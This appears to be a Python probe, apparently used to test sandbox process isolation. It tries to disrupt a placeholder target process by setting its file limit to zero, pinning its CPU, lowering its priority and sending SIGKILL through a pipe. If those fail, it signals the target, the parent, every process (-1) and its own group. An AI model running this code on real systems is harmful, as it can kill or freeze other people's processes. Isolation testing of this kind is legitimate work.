# Try to harm the process that started us, our parent and everybody, and at last our own group.
import os
import resource
import signal

outside = int("PID")


def lower_limits():
    resource.prlimit(outside, resource.RLIMIT_NOFILE, (0, 0))


def move():
    os.sched_setaffinity(outside, {0})


def slow_down():
    os.setpriority(os.PRIO_PROCESS, outside, 19)


def by_descriptor():
    import fcntl
    r, w = os.pipe()
    fcntl.fcntl(r, fcntl.F_SETOWN, outside)
    fcntl.fcntl(r, 10, signal.SIGKILL)  # F_SETSIG
    fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC)
    os.write(w, b"x")


def run():
    through = []
    for attempt in (lower_limits, move, slow_down, by_descriptor):
        try:
            attempt()
            if attempt is not by_descriptor:
                through.append(attempt.__name__)
        except OSError:
            pass
    if through:
        return through
    for pid in (outside, -outside, os.getppid(), -1, 0):
        for s in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, s)
            except OSError:
                pass
    return ["went through: nothing"]
